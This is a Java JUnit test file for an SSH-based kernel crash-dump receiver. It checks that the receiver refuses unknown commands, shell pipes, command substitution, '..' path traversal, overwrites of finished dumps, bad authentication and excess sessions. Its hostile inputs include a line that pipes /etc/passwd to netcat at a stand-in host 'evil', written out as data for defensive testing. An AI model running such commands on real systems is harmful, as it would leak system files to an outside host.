package org.kdumpreceiver.ssh;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.kdumpreceiver.Programs;
import org.kdumpreceiver.TestData;
import org.kdumpreceiver.ingest.AuthFailure;
import org.kdumpreceiver.ingest.FrontEndEvent;
import org.kdumpreceiver.ingest.IngestSession;
import org.kdumpreceiver.ingest.RejectReason;
import org.kdumpreceiver.ingest.SessionRefusal;
import org.kdumpreceiver.store.Manifest;
import org.kdumpreceiver.store.StoredFile;

/** Every refusal reaches the real client with its message and exit status, and damages nothing. */
class BadInputInteropTest {
    private static final String D = "/var/crash/10.0.2.15-202611221400";

    @TempDir
    Path tmp;

    SshFixture ssh;

    @BeforeEach
    void start() throws Exception {
        ssh = new SshFixture(tmp.resolve("rx"), "root@web-17", "limits:\n  max_sessions_per_address: 3\n");
    }

    @AfterEach
    void stop() throws Exception {
        ssh.close();
    }

    @Test
    void unknownCommandsAndShellSyntaxAreRefusedWithAnExitStatus() throws Exception {
        Programs.Result ls = ssh.ssh(null, "ls -la /");
        assertEquals(127, ls.exit());
        assertTrue(ls.stderr().contains("ls: command not found"), ls.stderr());
        Programs.Result pipe = ssh.ssh(null, "cat /etc/passwd | nc evil 1");
        assertEquals(126, pipe.exit());
        assertTrue(pipe.stderr().contains("'|' is not supported"), pipe.stderr());
        Programs.Result subst = ssh.ssh(null, "mkdir -p /var/crash/$(id -u)");
        assertEquals(126, subst.exit());
        Programs.Result shell = ssh.ssh(null, "-T", "receiver");  // no command: a shell request
        assertNotEquals(0, shell.exit());
        Programs.Result pty = ssh.ssh(null, "-tt", "receiver", "mkdir -p " + D);
        assertTrue(pty.stderr().contains("PTY allocation request failed"), pty.stderr());
        assertTrue(ssh.store.events.stream().anyMatch(e -> e instanceof FrontEndEvent.CommandRejected c
                && c.reason() == RejectReason.UNKNOWN_COMMAND));
        assertEquals(0, ssh.dumpCount());
    }

    @Test
    void pathsOutsideTheClientsOwnTreeAreRefused() throws Exception {
        Programs.Result up = ssh.ssh(null, "mkdir -p /var/crash/../../etc");
        assertEquals(1, up.exit());
        assertTrue(up.stderr().contains("'..' is not allowed"), up.stderr());

        Path data = Files.write(tmp.resolve("x"), TestData.random(1000, 1));
        Programs.Result into = ssh.ssh(data, "dd of=" + ssh.store.root + "/web-18/x/dump");
        assertEquals(1, into.exit());
        assertTrue(into.stderr().contains("inside the receiver's own storage"), into.stderr());

        // Another host with dumps here: web-17 may not file into a directory named after it.
        try (IngestSession other = ssh.store.open("web-18")) {
            other.openFile("dmesg").complete();
        }
        Programs.Result foreign = ssh.ssh(data, "dd of=/var/crash/web-18-2026-11-22-14-00/vmcore");
        assertEquals(1, foreign.exit());
        assertTrue(foreign.stderr().contains("is a dump directory of host web-18, but this client is web-17"),
                foreign.stderr());

        ClientSequencesInteropTest.ok(ssh.ssh(data, "dd of=" + D + "/dump-incomplete"));
        Programs.Result across = ssh.ssh(null, "mv " + D + "/dump-incomplete /var/crash/elsewhere/dump");
        assertEquals(1, across.exit());
        assertTrue(across.stderr().contains("moving between directories is not served"), across.stderr());
        Programs.Result missing = ssh.ssh(null, "mv " + D + "/nothing " + D + "/dump.1");
        assertEquals(1, missing.exit());
        assertTrue(missing.stderr().contains("No such file or directory"), missing.stderr());
    }

    @Test
    void aFinishedDumpIsNeverOverwritten() throws Exception {
        Path first = Files.write(tmp.resolve("first"), TestData.random(50_000, 2));
        Path second = Files.write(tmp.resolve("second"), TestData.random(50_000, 3));
        ClientSequencesInteropTest.ok(ssh.ssh(first, "dd of=" + D + "/dump.202611221400"));
        Programs.Result again = ssh.ssh(second, "dd of=" + D + "/dump.202611221400");
        assertEquals(1, again.exit());
        assertTrue(again.stderr().contains("refusing to overwrite finished file 'dump.202611221400'"), again.stderr());
        Programs.Result scpOver = ssh.scp(false, second.toString(), "receiver:" + D + "/dump.202611221400");
        assertNotEquals(0, scpOver.exit());
        Programs.Result legacyOver = ssh.scp(true, second.toString(), "receiver:" + D + "/dump.202611221400");
        assertNotEquals(0, legacyOver.exit());
        Path dir = ssh.dumpDir("web-17", D);
        StoredFile kept = ssh.manifest(dir).file("dump.202611221400");
        assertArrayEquals(Files.readAllBytes(first), ssh.store.openWithAgeCli(dir.resolve(kept.storedName())).stdout());
    }

    @Test
    void wrongKeyAndNoneAuthenticationAreRefused() throws Exception {
        Path other = tmp.resolve("other_key");
        Programs.run(List.of(Programs.require("ssh-keygen", "openssh-client"), "-q", "-t", "ed25519", "-N", "", "-f",
                other.toString()), null);
        Programs.Result wrong = Programs.run(List.of(Programs.require("ssh", "openssh-client"), "-F",
                ssh.sshConfigWithoutKey.toString(), "-i", other.toString(), "receiver", "mkdir -p " + D), null);
        assertEquals(255, wrong.exit());
        assertTrue(wrong.stderr().contains("Permission denied"), wrong.stderr());
        Programs.Result none = ssh.ssh(null, "-o", "PreferredAuthentications=none", "receiver", "mkdir -p " + D);
        assertEquals(255, none.exit());
        assertTrue(none.stderr().contains("Permission denied"), none.stderr());
        Programs.Result password = ssh.ssh(null, "-o", "PreferredAuthentications=password,keyboard-interactive",
                "receiver", "mkdir -p " + D);
        assertEquals(255, password.exit());
        ssh.awaitEvents("three AuthFailed events", all -> all.stream().filter(e -> e instanceof FrontEndEvent.AuthFailed)
                .count() >= 3);
        assertTrue(ssh.store.events.stream().anyMatch(e -> e instanceof FrontEndEvent.AuthFailed a
                && a.reason() == AuthFailure.UNKNOWN_KEY));
        assertEquals(0, ssh.dumpCount());
    }

    @Test
    void keyBoundToOtherAddressesIsRefusedAndReloadedWithoutRestart() throws Exception {
        String line = Files.readString(ssh.authorizedKeys);
        Files.writeString(ssh.authorizedKeys, "from=\"10.0.0.0/8,!127.0.0.1\" " + line);
        Files.setLastModifiedTime(ssh.authorizedKeys, java.nio.file.attribute.FileTime.fromMillis(System.currentTimeMillis() + 5000));
        Programs.Result refused = ssh.ssh(null, "mkdir -p " + D);
        assertEquals(255, refused.exit());
        Files.writeString(ssh.authorizedKeys, "from=\"127.0.0.0/8\",host=\"db-3\" " + line);
        Files.setLastModifiedTime(ssh.authorizedKeys, java.nio.file.attribute.FileTime.fromMillis(System.currentTimeMillis() + 10000));
        Path data = Files.write(tmp.resolve("d"), TestData.dmesgText());
        ClientSequencesInteropTest.ok(ssh.ssh(data, "dd of=" + D + "/dmesg.1"));
        assertEquals("db-3", ssh.manifest(ssh.dumpDir("db-3", D)).host(), "host= in authorized_keys names the host");
    }

    @Test
    void connectionDroppedMidDdKeepsTheBytesAsTruncated() throws Exception {
        byte[] payload = TestData.random(8 << 20, 4);
        Process client = new ProcessBuilder(Programs.require("ssh", "openssh-client"), "-F", ssh.sshConfig.toString(),
                "receiver", "dd of=" + D + "/dump-incomplete").redirectErrorStream(true).start();
        OutputStream stdin = client.getOutputStream();
        stdin.write(payload, 0, 4 << 20);
        stdin.flush();
        ssh.awaitEvent("bytes received", e -> e instanceof org.kdumpreceiver.ingest.IngestEvent.BytesReceived);
        client.destroyForcibly();  // SIGKILL: no EOF, no clean channel close
        assertTrue(client.waitFor(10, TimeUnit.SECONDS));
        ssh.awaitEvent("the cut file finished", e -> e instanceof org.kdumpreceiver.ingest.IngestEvent.FileFinished);
        Path dir = ssh.dumpDir("web-17", D);
        StoredFile f = ssh.manifest(dir).file("dump-incomplete");
        assertEquals("truncated", f.verdict());
        assertEquals("connection-lost", f.reason());
        assertTrue(f.bytesIn() > 0 && f.bytesIn() <= 4 << 20, "bytes_in " + f.bytesIn());
        byte[] opened = ssh.store.openWithAgeCli(dir.resolve(f.storedName())).stdout();
        assertEquals(f.bytesIn(), opened.length);
        assertArrayEquals(Arrays.copyOf(payload, opened.length), opened);
    }

    @Test
    void stoppingTheReceiverMidDdKeepsTheBytesAsReceiverStopped() throws Exception {
        byte[] payload = TestData.random(4 << 20, 5);
        Process client = new ProcessBuilder(Programs.require("ssh", "openssh-client"), "-F", ssh.sshConfig.toString(),
                "receiver", "dd of=" + D + "/dump-incomplete").redirectErrorStream(true).start();
        client.getOutputStream().write(payload, 0, 2 << 20);
        client.getOutputStream().flush();
        ssh.awaitEvents("1 MiB received", all -> all.stream()
                .filter(e -> e instanceof org.kdumpreceiver.ingest.IngestEvent.BytesReceived)
                .mapToLong(e -> ((org.kdumpreceiver.ingest.IngestEvent.BytesReceived) e).bytes()).sum() >= (1 << 20));
        ssh.endpoint.close();  // what SIGTERM does in serve
        assertTrue(client.waitFor(30, TimeUnit.SECONDS));
        assertNotEquals(0, client.exitValue());
        StoredFile f = ssh.manifest(ssh.dumpDir("web-17", D)).file("dump-incomplete");
        assertEquals("sealed", f.state());
        assertEquals("truncated", f.verdict());
        assertEquals("receiver-stopped", f.reason());
        byte[] opened = ssh.store.openWithAgeCli(ssh.dumpDir("web-17", D).resolve(f.storedName())).stdout();
        assertEquals(f.bytesIn(), opened.length);
        assertArrayEquals(Arrays.copyOf(payload, opened.length), opened);
    }

    @Test
    void moreSessionsThanTheLimitAreRefusedAndTheOthersGoOn() throws Exception {
        Process[] held = new Process[3];
        for (int i = 0; i < held.length; i++) {
            held[i] = new ProcessBuilder(Programs.require("ssh", "openssh-client"), "-F", ssh.sshConfig.toString(),
                    "receiver", "dd of=" + D + "/part" + i).redirectErrorStream(true).start();
        }
        ssh.awaitEvents("three sessions open", all -> all.stream().filter(e -> e instanceof FrontEndEvent.SessionOpened)
                .count() >= 3);
        Programs.Result fourth = ssh.ssh(null, "mkdir -p " + D);
        assertEquals(255, fourth.exit(), fourth.stderr());
        assertTrue(ssh.store.events.stream().anyMatch(e -> e instanceof FrontEndEvent.SessionRefused r
                && r.reason() == SessionRefusal.MAX_SESSIONS_PER_ADDRESS));
        for (int i = 0; i < held.length; i++) {
            held[i].getOutputStream().write(TestData.dmesgText());
            held[i].getOutputStream().close();
            assertTrue(held[i].waitFor(30, TimeUnit.SECONDS));
            assertEquals(0, held[i].exitValue(), new String(held[i].getInputStream().readAllBytes()));
        }
        Manifest m = ssh.manifest(ssh.dumpDir("web-17", D));
        assertEquals(3, m.files().size());
        ClientSequencesInteropTest.ok(ssh.ssh(null, "mkdir -p " + D));  // slots are free again
    }
}
